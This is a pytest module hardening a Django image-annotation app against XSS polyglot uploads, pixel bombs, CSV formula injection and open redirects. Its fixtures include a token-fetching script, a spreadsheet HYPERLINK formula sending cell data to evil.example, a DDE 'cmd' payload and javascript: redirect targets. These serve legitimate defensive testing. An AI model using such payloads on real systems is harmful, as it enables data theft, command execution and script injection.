"""Hardening against what a user or a file can smuggle in: a page inside an upload (stored XSS),
pixel bombs, spreadsheet formulas in report exports, an open redirect; the admin operators use;
frames drawn by the browser on the same pixel grid as the boxes."""
from __future__ import annotations

import csv
import functools
import hashlib
import io
import logging
import os
import re
from pathlib import Path, PurePosixPath

import boto3
import pytest
from django.core.files.base import ContentFile
from django.core.management import call_command
from django.core.management.base import CommandError
from PIL import Image

from annotator.models import Frame, IngestedObject
from annotator.services.ingest import ingest_s3
from tests.coco_files import write_coco
from tests.factories import (
    CategoryFactory,
    FrameFactory,
    LabelFactory,
    PipelineVersionFactory,
    ProductFactory,
    ShelfFactory,
    UserFactory,
    shelf_image,
)

REPO_ROOT = Path(__file__).resolve().parents[2]
SCRIPT = b"<html><body><script>fetch('/api/auth/token/', {method: 'POST'})</script></body></html>"

pytestmark = [
    pytest.mark.django_db,
    # Pillow warns from 89 MP on opening; the pixel bomb below is refused after that, before decoding.
    pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning"),
]


@pytest.fixture
def shelf():
    return ShelfFactory()


@pytest.fixture
def uploader(shelf):
    return UserFactory(username="uploader", company=shelf.camera.store.company, role="annotator")


@pytest.fixture(autouse=True)
def no_broker(monkeypatch):
    monkeypatch.setattr("annotator.services.prelabel_queue.queue_prelabelling", lambda *, frame_id: None)


def upload(client, shelf, data: bytes, name: str):
    return client.post("/api/frames/", {"shelf": shelf.pk, "image": ContentFile(data, name=name)})


def stored_files(media_root) -> list[Path]:
    return [p for p in media_root.rglob("*") if p.is_file()] if media_root.exists() else []


# ------------------------------------------------------------------ 1. a page inside an upload


def test_an_uploaded_page_behind_a_jpeg_is_stored_and_served_as_a_jpeg(client, shelf, uploader):
    polyglot = shelf_image((200, 100)) + SCRIPT  # Pillow reads the JPEG and ignores what follows
    client.force_login(uploader)
    created = upload(client, shelf, polyglot, name="poc.html")
    assert created.status_code == 201, created.content
    frame = Frame.objects.get(pk=created.json()["id"])
    name = PurePosixPath(frame.image.name)
    assert name.name == f"{hashlib.sha256(polyglot).hexdigest()}.jpg"  # the server's name, not the sender's
    assert name.parts[0] == "frames"

    served = client.get(f"/media/{frame.image.name}")
    assert served.status_code == 200
    assert b"".join(served.streaming_content) == polyglot
    assert served["Content-Type"] == "image/jpeg"
    assert served["X-Content-Type-Options"] == "nosniff"
    assert served["Content-Security-Policy"] == "sandbox"
    assert served["Content-Disposition"] == "inline"


def test_a_stored_file_with_another_name_is_served_as_a_sandboxed_download(client, shelf, uploader):
    """Files stored before the server named them keep the sender's name: never served as a page."""
    frame = FrameFactory(shelf=shelf, image=ContentFile(shelf_image() + SCRIPT, name="poc.html"))
    assert frame.image.name.endswith(".html")
    client.force_login(uploader)
    served = client.get(f"/media/{frame.image.name}")
    assert served.status_code == 200
    assert served["Content-Type"] == "application/octet-stream"
    assert served["Content-Disposition"] == "attachment"
    assert served["X-Content-Type-Options"] == "nosniff"
    assert served["Content-Security-Policy"] == "sandbox"


def test_an_upload_in_a_format_browsers_do_not_draw_is_a_400(client, shelf, uploader, media_root):
    tiff = io.BytesIO()
    Image.new("RGB", (64, 32), (200, 30, 30)).save(tiff, "TIFF")
    client.force_login(uploader)
    response = upload(client, shelf, tiff.getvalue(), name="shelf.jpg")
    assert response.status_code == 400
    assert "shelf.jpg: a TIFF image; frames must be JPEG, PNG or WebP" in str(response.json()["image"])
    assert not Frame.objects.exists() and not stored_files(media_root)


@pytest.fixture
def s3_media(settings, tmp_path, monkeypatch):
    """Django's media storage as backend/settings.py configures it for a bucket, on moto's S3 server."""
    from moto.server import ThreadedMotoServer

    from tests.backend.test_settings import settings_for

    for name in [name for name in os.environ if name.startswith("AWS_")]:
        monkeypatch.delenv(name)
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    host, port = server.get_host_and_port()
    endpoint = f"http://{host}:{port}"
    configured = settings_for((tmp_path / "var").resolve(), AWS_STORAGE_BUCKET_NAME="shelf-media",
                              AWS_S3_ENDPOINT_URL=endpoint, AWS_S3_REGION_NAME="us-east-1",
                              AWS_ACCESS_KEY_ID="k", AWS_SECRET_ACCESS_KEY="s")
    s3 = boto3.client("s3", endpoint_url=endpoint, region_name="us-east-1",
                      aws_access_key_id="k", aws_secret_access_key="s")
    s3.create_bucket(Bucket="shelf-media")
    settings.STORAGES = configured["STORAGES"]
    yield s3
    server.stop()


def test_a_frame_uploaded_to_s3_carries_its_image_type_inline(s3_media, client, shelf, uploader):
    png = io.BytesIO()
    Image.new("RGB", (48, 24), (30, 160, 60)).save(png, "PNG")
    data = png.getvalue() + SCRIPT
    client.force_login(uploader)
    created = upload(client, shelf, data, name="poc.html")
    assert created.status_code == 201, created.content
    frame = Frame.objects.get(pk=created.json()["id"])
    assert frame.image.name.endswith(f"/{hashlib.sha256(data).hexdigest()}.png")
    stored = s3_media.head_object(Bucket="shelf-media", Key=frame.image.name)
    assert stored["ContentType"] == "image/png"
    assert stored["ContentDisposition"] == "inline"


# ------------------------------------------------------------------ 2. pixel bombs


@functools.cache
def pixel_bomb() -> bytes:
    """A valid 12,000 x 12,000 PNG of a few kilobytes: 144 megapixels once decoded."""
    buffer = io.BytesIO()
    Image.new("1", (12_000, 12_000)).save(buffer, "PNG")
    return buffer.getvalue()


@pytest.fixture
def no_decoding(monkeypatch):
    """Decoding pixels fails the test: the limit must be checked from the header alone."""
    def refuse(self):
        raise AssertionError(f"decoded a {self.size[0]}x{self.size[1]} image")

    monkeypatch.setattr("PIL.ImageFile.ImageFile.load", refuse)


def test_a_pixel_bomb_is_refused_from_its_header(no_decoding):
    from inference.images import ImageTooLarge, inspect_image

    assert len(pixel_bomb()) < 100_000
    with pytest.raises(ImageTooLarge, match=r"12000x12000 pixels \(144\.0 megapixels\), over the limit of 40 megapixels"):
        inspect_image(pixel_bomb(), max_pixels=40_000_000)


def test_an_upload_over_frame_max_pixels_is_a_400_naming_the_limit(client, shelf, uploader, media_root, no_decoding):
    client.force_login(uploader)
    response = upload(client, shelf, pixel_bomb(), name="bomb.png")
    assert response.status_code == 400
    message = str(response.json()["image"])
    assert "bomb.png: the image is 12000x12000 pixels" in message
    assert "over the limit of 40 megapixels (FRAME_MAX_PIXELS)" in message
    assert not Frame.objects.exists() and not stored_files(media_root)


def test_frame_max_pixels_is_a_setting(client, shelf, uploader, settings):
    settings.FRAME_MAX_PIXELS = 200 * 100 - 1
    client.force_login(uploader)
    refused = upload(client, shelf, shelf_image((200, 100)), name="shelf.jpg")
    assert refused.status_code == 400 and "over the limit of 0.019999 megapixels" in str(refused.json()["image"])
    settings.FRAME_MAX_PIXELS = 200 * 100
    assert upload(client, shelf, shelf_image((200, 100)), name="shelf.jpg").status_code == 201


class FakeS3:
    """The few calls of a boto3 S3 client that ingestion makes, over objects held in memory."""

    class exceptions:
        class NoSuchKey(Exception):
            pass

    def __init__(self, objects: dict[str, bytes]):
        self.objects = objects

    def get_paginator(self, operation: str):
        objects = self.objects

        class Paginator:
            def paginate(self, *, Bucket: str, Prefix: str):
                return [{"Contents": [{"Key": key, "ETag": f'"{hashlib.md5(data).hexdigest()}"'}
                                      for key, data in objects.items()]}]

        return Paginator()

    def get_object(self, *, Bucket: str, Key: str) -> dict:
        return {"Body": io.BytesIO(self.objects[Key])}


def test_ingestion_skips_a_frame_over_frame_max_pixels(caplog, media_root, no_decoding):
    client = FakeS3({"acme/s1/cam-1/20240101T100000.png": pixel_bomb()})
    with caplog.at_level(logging.WARNING, logger="annotator.services.ingest"):
        report = ingest_s3(client=client, bucket="cameras")
    assert report.registered == [] and report.unreadable == ["acme/s1/cam-1/20240101T100000.png"]
    assert "over the limit of 40 megapixels (FRAME_MAX_PIXELS)" in caplog.text
    assert not Frame.objects.exists() and not stored_files(media_root)
    assert IngestedObject.objects.get().outcome == IngestedObject.Outcome.UNREADABLE


def test_a_coco_import_over_frame_max_pixels_exits_with_one_line_and_imports_nothing(tmp_path, settings, media_root):
    settings.FRAME_MAX_PIXELS = 320 * 160 - 1
    path = write_coco(tmp_path, [{"name": "big.jpg", "captured_at": None, "boxes": [(5, 5, 20, 20, 1)]}])
    with pytest.raises(CommandError) as error:
        call_command("import_coco", str(path))
    message = str(error.value)
    assert "\n" not in message
    assert str(tmp_path / "images" / "big.jpg") in message
    assert "the image is 320x160 pixels" in message and "(FRAME_MAX_PIXELS)" in message
    assert not Frame.objects.exists() and not stored_files(media_root)


# ------------------------------------------------------------------ 3. formulas in report exports


FORMULAS = {
    "product": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "category": "@SUM(1+1)*cmd|' /C calc'!A0",
    "store": "+1+1",
}


def test_report_csv_cells_that_start_a_formula_are_plain_text(client):
    shelf = ShelfFactory(camera__store__code=FORMULAS["store"])
    company = shelf.camera.store.company
    product = ProductFactory(company=company, name=FORMULAS["product"],
                             category=CategoryFactory(company=company, name=FORMULAS["category"]))
    annotator = UserFactory(username="-annotator", company=company, role="annotator")
    for tab_or_minus in ("\tcmd", "-2+3"):
        LabelFactory(box__frame__shelf=shelf, product=product, suggested_product=product, annotator=annotator,
                     suggested_by=PipelineVersionFactory(name=tab_or_minus))
    client.force_login(UserFactory(company=company, role="manager"))
    expected = {"product": {"'" + FORMULAS["product"]}, "category": {"'" + FORMULAS["category"]},
                "store": {"'+1+1"}, "annotator": {"'-annotator"}, "pipeline": {"'\tcmd", "'-2+3"}}
    for by, groups in expected.items():
        exported = client.get(f"/api/reports/confirm-rate/?by={by}&format=csv")
        assert exported.status_code == 200
        rows = list(csv.DictReader(io.StringIO(exported.content.decode())))
        assert {row["group"] for row in rows} == groups, by
        assert all(int(row["boxes"]) >= 1 for row in rows)  # figures stay numbers


# ------------------------------------------------------------------ 5. open redirect


@pytest.mark.parametrize("target", ["https://evil.example/login/", "//evil.example/", "http://testserver.evil.example/",
                                    "javascript:alert(1)"])
def test_retry_returns_to_this_site_only(client, shelf, uploader, target):
    frame = FrameFactory(shelf=shelf, status=Frame.Status.READY)
    client.force_login(uploader)
    elsewhere = client.post(f"/frames/{frame.pk}/retry/", {"next": target})
    assert elsewhere.status_code == 302 and elsewhere["Location"] == "/"  # the frame list instead
    here = client.post(f"/frames/{frame.pk}/retry/", {"next": "/?status=failed&page=2"})
    assert here.status_code == 302 and here["Location"] == "/?status=failed&page=2"


# ------------------------------------------------------------------ 7. the admin


def test_the_served_admin_shows_the_apps_models_to_superusers_only(client, shelf):
    frame = FrameFactory(shelf=shelf)
    client.force_login(UserFactory(username="operator", is_staff=True, is_superuser=True))
    index = client.get("/admin/")
    assert index.status_code == 200
    apps = {app["app_label"]: {model["object_name"] for model in app["models"]} for app in index.context["app_list"]}
    assert {"Company", "Frame", "Box", "Label", "Product", "SearchSpaceOutbox"} <= apps["annotator"]
    assert {"User", "Group"} <= apps["auth"]
    frames = client.get("/admin/annotator/frame/")
    assert frames.status_code == 200 and f"/admin/annotator/frame/{frame.pk}/change/".encode() in frames.content

    # A company's admin, even marked staff, runs its company in the app: the admin lists every company's rows.
    client.force_login(UserFactory(username="staff", is_staff=True, company=shelf.camera.store.company, role="admin"))
    for url in ("/admin/", "/admin/annotator/frame/"):
        response = client.get(url)
        assert response.status_code == 302 and "/admin/login/" in response["Location"]


# ------------------------------------------------------------------ 13. EXIF orientation


def css_rules(path: Path) -> dict[str, str]:
    """Each selector of a stylesheet with the declarations of every rule that names it."""
    text = re.sub(r"/\*.*?\*/", "", path.read_text(), flags=re.S)
    rules: dict[str, str] = {}
    for selectors, body in re.findall(r"([^{}]+)\{([^{}]*)\}", text):
        for selector in selectors.split(","):
            key = " ".join(selector.split())
            rules[key] = rules.get(key, "") + ";" + body
    return rules


# Where the browser draws a stored frame: the frame page's <img>, the workspace's <img> and its
# enlarged crop (the frame as a CSS background).
FRAME_DRAWN_BY = [("app.css", ".frame img"), ("workspace.css", ".ws-stage img"), ("workspace.css", ".ws-crop")]


def test_the_browser_draws_frames_without_exif_rotation_wherever_it_draws_them():
    """Boxes refer to the pixel grid as stored, which the server reads without EXIF orientation
    (inference.images.open_image); Chromium would rotate a tagged JPEG and misplace every box."""
    for stylesheet, selector in FRAME_DRAWN_BY:
        declarations = css_rules(REPO_ROOT / "frontend" / "src" / stylesheet).get(selector, "")
        assert re.search(r"(^|;)\s*image-orientation\s*:\s*none\s*(;|$)", declarations), (stylesheet, selector)

    # Those are all the places: a new one needs the rule too.
    templates = sorted(path.name for path in (REPO_ROOT / "templates").rglob("*.html")
                       if "frame.image.url" in path.read_text())
    assert templates == ["frame_detail.html"]
    detail = (REPO_ROOT / "templates" / "annotator" / "frame_detail.html").read_text()
    assert re.search(r'<div class="frame"[^>]*>\s*<img src="\{\{ frame\.image\.url \}\}"', detail)
    scripts = {path.name: path.read_text().count("image_url") for path in (REPO_ROOT / "frontend" / "src").glob("*.js")}
    assert {name: count for name, count in scripts.items() if count} == {"workspace.js": 2}
    workspace = (REPO_ROOT / "frontend" / "src" / "workspace.js").read_text()
    assert "refs.image.src = frame.image_url" in workspace  # the <img> in .ws-stage
    assert "backgroundImage: `url(\"${state.frame.image_url}\")`" in workspace  # the .ws-crop
    page = (REPO_ROOT / "templates" / "annotator" / "workspace.html").read_text()
    assert re.search(r'class="ws-stage"[^>]*>\s*<img data-ref="image"', page)
    assert 'class="ws-crop" data-ref="crop"' in page
